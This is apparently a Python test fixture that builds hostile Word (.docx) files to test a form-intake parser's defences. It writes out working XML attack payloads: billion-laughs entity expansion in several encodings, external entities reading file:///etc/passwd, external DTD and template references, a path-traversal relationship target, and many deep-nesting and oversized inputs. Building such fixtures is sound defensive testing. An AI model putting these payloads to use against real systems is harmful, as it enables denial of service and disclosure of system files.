"""Word documents that mean harm. Its one rule: each is a container that passes any look at its
directory; the XML is what attacks."""

from collections.abc import Callable
from functools import partial

from bot.intake.paper.wordxml import NAMESPACES
from tests.bombs.zips import FORM, Bomb
from tests.intake.forms import GOOD
from tests.intake.office_files import p, r, table, tc, word, zipped

MAIN = "word/document.xml"
LAUGHS = "".join(f'<!ENTITY l{at + 1} "' + f"&l{at};" * 10 + '">' for at in range(9))
LAUGHTER = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>'
RELATED = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
    'TargetMode="{mode}"/></Relationships>'
)
ROWS = table(*GOOD.items())


def _body(xml: str, **parts: str) -> Bomb:
    """A good form and then this."""
    return "form.docx", word(ROWS + xml, **parts)


def _main(xml: str | bytes) -> Bomb:
    return "form.docx", zipped({MAIN: xml})


def _deep(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def _control(depth: int) -> str:
    return "<w:sdt><w:sdtContent>" * depth + p("x") + "</w:sdtContent></w:sdt>" * depth


def _box(depth: int) -> str:
    return "<w:p><w:r><w:txbxContent>" * depth + p("x") + "</w:txbxContent></w:r></w:p>" * depth


WORDS: dict[str, Callable[[], Bomb]] = {
    "a billion laughs": partial(_main, LAUGHTER),
    "a billion laughs in UTF-16": partial(_main, LAUGHTER.encode("utf-16")),
    "laughs without a mark": partial(_main, LAUGHTER.replace("1.0", '1.0" encoding="utf-16le').encode("utf-16-le")),
    "laughs in EBCDIC": partial(_main, LAUGHTER.replace('"1.0"', '"1.0" encoding="cp037"').encode("cp037")),
    "laughs in UTF-7": partial(
        _main, b'<?xml version="1.0" encoding="utf-7"?>' + LAUGHTER.partition("?>")[2].encode("utf-7")
    ),
    "an external entity": partial(_main, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "an external document type": partial(_main, '<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'),
    "2 million paragraphs": partial(_body, "<w:p/>" * 2_000_000),
    "a gridSpan of 10^8": lambda: _body(
        "<w:tbl><w:tr>" + tc(p("x"), '<w:gridSpan w:val="100000000"/>') * 50 + "</w:tr></w:tbl>"
    ),
    "a gridSpan of a million digits": lambda: _body(
        "<w:tbl><w:tr>" + tc(p("x"), '<w:gridSpan w:val="' + "9" * 1_000_000 + '"/>') + "</w:tr></w:tbl>"
    ),
    "tables 10,000 deep": lambda: _body("<w:tbl><w:tr><w:tc>" * 10_000 + "</w:tc></w:tr></w:tbl>" * 10_000),
    "tables 100 deep": lambda: _body("<w:tbl><w:tr><w:tc>" * 100 + p("x") + "</w:tc></w:tr></w:tbl>" * 100),
    "a tree of tables": lambda: _body(_tree(5, 9)),
    "elements 90,000 deep": lambda: _body(_deep("w:ins", 45_000)),
    "insertions 900 deep": lambda: _body(f"<w:p>{'<w:ins>' * 900}{r('x')}{'</w:ins>' * 900}</w:p>"),
    "controls 900 deep": lambda: _body(_control(900)),
    "controls 20,000 deep": lambda: _body(_control(20_000)),
    "text boxes 900 deep": lambda: _body(_box(900)),
    "text boxes 11 deep in each other, many": lambda: _body(_box(11) * 1_000),
    "90,000 runs in a paragraph": lambda: _body(f"<w:p>{'<w:r/>' * 90_000}</w:p>"),
    "60,000 tick boxes": lambda: _body(
        "<w:p>" + '<w:r><w:sym w:font="Wingdings" w:char="F0FE"/></w:r>' * 45_000 + "</w:p>"
    ),
    "a million attributes": lambda: _main("<a " + " ".join(f'b{at}="c"' for at in range(300_000)) + "/>"),
    "an attribute of 10 MB": lambda: _main('<a b="' + "c" * 10_000_000 + '"/>'),
    "100,000 namespaces": lambda: _main("<a " + " ".join(f'xmlns:b{at}="c{at}"' for at in range(100_000)) + "/>"),
    "15 MB of one word": lambda: _body(p("x" * 15_000_000)),
    "15 MB of labels": lambda: _body(p("Company: " * 1_600_000)),
    "a cell of 100,000 labels": lambda: _body(table(("<w:p/>" + p("Company: x") * 20_000, "x"))),
    "20,000 answers to one question": lambda: _body(table(*[("Company", "x")] * 9_000)),
    "a drop-down of 2^31": lambda: _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:ddList><w:result w:val="2147483647"/></w:ddList>'
        "</w:ffData></w:fldChar></w:r></w:p>"
    ),
    "80,000 fields without end": lambda: _body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 20_000),
    "a template elsewhere": lambda: (
        "form.docx",
        word(
            ROWS,
            **{
                "word/_rels/settings.xml.rels": RELATED.format(
                    kind="attachedTemplate", target="http://x.example/a.dotm", mode="External"
                )
            },
        ),
    ),
    "a main part elsewhere": lambda: (
        "form.docx",
        zipped(
            {
                "_rels/.rels": RELATED.format(kind="officeDocument", target="../../../etc/passwd", mode="Internal"),
                "word/x.xml": "<a/>",
            }
        ),
    ),
    "an empty body": lambda: _main(f"<w:document {NAMESPACES}><w:body/></w:document>"),
    "no XML": partial(_main, b"\x00\xff" * 1_000),
    "XML that ends early": lambda: _main(f"<w:document {NAMESPACES}><w:body>{ROWS}"),
    "a Word document in a Word document": lambda: ("form.docx", zipped({MAIN: FORM})),
}


def _tree(wide: int, deep: int) -> str:
    """Tables whose every cell holds further tables: few levels, many leaves."""
    if not deep:
        return p("x")
    inner = _tree(wide, deep - 1) if deep > 6 else p("x")
    return "<w:tbl><w:tr>" + tc(inner + p("")) * wide + "</w:tr></w:tbl>"
